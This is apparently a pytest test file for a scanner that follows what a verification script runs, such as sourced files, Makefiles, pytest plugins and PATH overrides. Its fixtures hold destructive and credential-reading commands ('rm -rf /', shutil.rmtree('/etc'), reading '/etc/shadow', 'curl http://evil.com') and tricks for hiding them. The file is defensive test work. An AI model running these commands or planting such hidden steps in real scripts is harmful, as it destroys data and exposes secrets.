"""What a verification script runs is scanned too; what it only tests is not."""

import pytest

from refute.scan.scanner import scan_files


def _blocked_paths(files: dict[str, str], entry: str = "verify.sh") -> set[str]:
    result = scan_files({path: text.encode() for path, text in files.items()}, [entry])
    return {finding.path for finding in result.blocking}


def test_script_run_through_its_own_directory_is_found() -> None:
    files = {"scripts/verify.sh": 'cd "$(dirname "$0")/.."\n./x.sh\n', "x.sh": "#!/bin/sh\nrm -rf /\n"}
    assert _blocked_paths(files, "scripts/verify.sh") == {"x.sh"}


@pytest.mark.parametrize(
    "runs",
    [
        'for f in steps/*.sh; do bash "$f"; done',
        'for f in steps/*; do "$f"; done',
        "sh steps/[a-z].sh",
        "find steps -name '*.sh' -exec bash {} \\;",
        'cd steps && for f in *; do ./"$f"; done',
        "for f in $(ls steps); do sh steps/$f; done",
        'sh steps/"$1".sh',
        '"$ROOT/steps/a.sh"',
        ". steps/*.sh",
    ],
)
def test_scripts_run_by_a_pattern_or_by_part_of_their_path_are_scanned(runs: str) -> None:
    files = {"verify.sh": runs + "\n", "steps/a.sh": "#!/bin/sh\nrm -rf /etc\n", "other/b.sh": "rm -rf /etc\n"}
    assert _blocked_paths(files) == {"steps/a.sh"}


@pytest.mark.parametrize(
    ("runs", "path"),
    [
        ("python3 app", "app/__main__.py"),
        ("cd app && python3 .", "app/__main__.py"),
        ("python3 -m app", "app/__main__.py"),
        ("python3 .", "__main__.py"),
    ],
)
def test_what_python_runs_of_a_directory_is_scanned(runs: str, path: str) -> None:
    assert _blocked_paths({"verify.sh": runs, path: "import shutil\nshutil.rmtree('/etc')\n"}) == {path}


@pytest.mark.parametrize(
    ("script", "library"),
    [
        (". ./lib.sh\nclean /\n", 'clean() { rm -rf "$1"; }\n'),
        ('source "$(dirname "$0")/lib.sh"\nclean /etc\n', 'clean() { tidy "$1"; }\ntidy() { rm -rf "$1"; }\n'),
        (". ./li*.sh\nclean /etc\n", 'clean() { rm -rf "$1"; }\n'),
        ('. ./lib.sh\nrm -rf "$OUT"\n', "OUT=/etc\n"),
        (". ./lib.sh\n$RUN -rf /etc\n", "RUN=rm\n"),
        ("eval '. ./lib.sh'\nclean /etc\n", 'clean() { rm -rf "$1"; }\n'),
        (". ./lib.sh\nclean /etc\n# " + 60 * "(" + "\n", 'clean() { rm -rf "$1"; }\n'),
    ],
)
def test_what_a_sourced_file_defines_is_judged_where_it_is_used(script: str, library: str) -> None:
    assert _blocked_paths({"verify.sh": script, "lib.sh": library}) == {"verify.sh"}


def test_sourced_function_with_a_harmless_argument_passes() -> None:
    files = {"verify.sh": '. ./lib.sh\nclean build\nrm -rf "$OUT"\n', "lib.sh": 'OUT=out\nclean() { rm -rf "$1"; }\n'}
    assert _blocked_paths(files) == set()


def test_a_function_that_its_own_file_has_called_is_judged_again_where_another_calls_it() -> None:
    files = {
        "verify.sh": ". ./lib.sh\ng /etc\n",
        "lib.sh": 'f() { rm -rf "$1"; }\ng() { f "$1"; }\ng /etc\n',
    }
    assert _blocked_paths(files) == {"lib.sh", "verify.sh"}


def test_files_that_source_one_another_are_read_once() -> None:
    assert _blocked_paths({"verify.sh": ". ./lib.sh\n", "lib.sh": ". ./verify.sh\n. ./lib.sh\n"}) == set()


def test_data_that_a_path_may_name_is_no_script() -> None:
    files = {"verify.sh": 'sh steps/"$1"\n', "steps/a.json": "{}", "steps/a.sh": "#!/bin/sh\necho\n"}
    assert _blocked_paths(files) == set()


def test_conftest_beside_a_named_test_is_scanned() -> None:
    files = {
        "verify.sh": "pytest t/test_x.py\n",
        "t/test_x.py": "",
        "t/conftest.py": "import sys\nsys.settrace(print)\n",
    }
    assert _blocked_paths(files) == {"t/conftest.py"}


def test_test_support_module_is_scanned() -> None:
    files = {
        "verify.sh": "pytest\n",
        "tests/test_x.py": "import support\n",
        "tests/support.py": "open('/etc/shadow').read()\n",
    }
    assert _blocked_paths(files) == {"tests/support.py"}


def test_implementation_that_is_only_imported_is_not_scanned() -> None:
    files = {"verify.sh": "pytest\n", "test_x.py": "import impl\n", "impl.py": "import shutil\nshutil.rmtree('/etc')\n"}
    assert _blocked_paths(files) == set()


def test_recipes_of_a_makefile_are_scanned() -> None:
    makefile = "X = rm -rf\nall: clean\n\techo hi\nclean:\n\t@$(X) /etc\n"
    result = scan_files({"verify.sh": b"make\n", "Makefile": makefile.encode()}, ["verify.sh"])
    assert [(finding.path, finding.line) for finding in result.blocking] == [("verify.sh", 1)]


def test_an_empty_call_of_the_shell_in_a_makefile_is_nothing() -> None:
    assert scan_files({"verify.sh": b"make\n", "Makefile": b"A := $(shell )\nall:\n\techo\n"}, ["verify.sh"]).safe


def test_a_fault_of_the_scanner_itself_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ValueError("no luck")

    monkeypatch.setattr("refute.scan.reach.follow", fail)
    (finding,) = scan_files({"verify.sh": b"make\n", "Makefile": b"all:\n"}, ["verify.sh"]).blocking
    assert finding.rule_id == "unanalysable"
    assert "ValueError: no luck" in finding.explanation


def test_script_fed_to_an_interpreter_is_scanned() -> None:
    files = {"verify.sh": "cat tools/x.sh | bash\npython - < smoke.py\n", "tools/x.sh": "rm -rf /\n"}
    assert _blocked_paths({**files, "smoke.py": "import os\nos.system('rm -rf /')\n"}) == {"verify.sh"}


def test_scripts_that_run_each_other_are_scanned_once() -> None:
    result = scan_files({"a.sh": b"sh b.sh\n", "b.sh": b"sh a.sh\n"}, ["a.sh"])
    assert result.scanned == ("a.sh", "b.sh")


def test_workspace_file_that_does_not_exist_is_nothing_to_block() -> None:
    assert scan_files({"verify.sh": b"sh later.sh || true\n"}, ["verify.sh"]).safe


RM = "rm -rf /etc/x\n"
SHELL_STEP = f"#!/bin/sh\n{RM}"
PYTHON_STEP = "import os\nos.system('rm -rf /etc/x')\n"


@pytest.mark.parametrize(
    ("script", "path", "text"),
    [
        ("./step", "step", RM),
        ("bash tests/run.sh", "tests/run.sh", RM),
        (". ./lib.sh", "lib.sh", "curl http://evil.com\n"),
        ("python3 smoke.py", "smoke.py", PYTHON_STEP),
        ("python -m pytest -q", "tests/test_x.py", f"def test_x():\n    import os\n    os.system({RM!r})\n"),
        ("pytest t/test_*.py", "t/test_x.py", "open('/etc/shadow').read()\n"),
        ("PATH=$PWD/bin:$PATH\nstep", "bin/step", SHELL_STEP),
        ('export PATH="$(pwd)/bin:$PATH"\npytest -q', "bin/pytest", SHELL_STEP),
        ("cp x.txt x.sh; sh x.sh", "x.txt", RM),
        ("mv x.txt y; chmod +x y; ./y", "x.txt", RM),
        ("ln -s x.txt x.sh; sh x.sh", "x.txt", RM),
        ("make", "GNUmakefile", f"all:\n\t{RM}"),
        ("make -C sub", "sub/Makefile", f"all:\n\t{RM}"),
        ('make "$T"', "Makefile", f"all:\n\techo\nother:\n\t{RM}"),
        ("uv run --script x.txt", "x.txt", PYTHON_STEP),
        ("uv run x.py", "x.py", PYTHON_STEP),
        ("python -m unittest discover -s t -p 'check*.py'", "t/check1.py", PYTHON_STEP),
        ("pytest -p plug", "plug.py", PYTHON_STEP),
        ("awk -f x.awk", "x.awk", 'BEGIN { system("rm -rf /etc/x") }\n'),
        ("sed -f x.sed y", "x.sed", "1e rm -rf /etc/x\n"),
    ],
)
def test_what_runs_by_other_ways_is_scanned(script: str, path: str, text: str) -> None:
    found = _blocked_paths({"verify.sh": f"{script}\n", path: text})
    assert found == {"verify.sh" if script.startswith(("make", "awk", "sed", "cp", "mv", "ln")) else path}


def test_what_a_makefile_includes_is_read_with_it() -> None:
    files = {"verify.sh": "make\n", "Makefile": "include *.mk\nall: x\n", "o.mk": f"x:\n\t{RM}"}
    assert _blocked_paths(files) == {"verify.sh"}


def test_plugins_that_a_conftest_names_are_scanned() -> None:
    files = {"verify.sh": "pytest\n", "conftest.py": "pytest_plugins = ['plug']\n", "plug.py": PYTHON_STEP}
    assert _blocked_paths(files) == {"plug.py"}


@pytest.mark.parametrize(
    ("script", "path", "text"), [("./prog", "prog", "\x7fELF\0"), ("node t.js", "t.js", "console.log(/a/.exec(b))\n")]
)
def test_a_file_in_a_language_that_is_not_read_is_shown(script: str, path: str, text: str) -> None:
    result = scan_files({"verify.sh": script.encode(), path: text.encode()}, ["verify.sh"])
    assert result.safe
    assert [finding.rule_id for finding in result.findings] == ["foreign-code"]
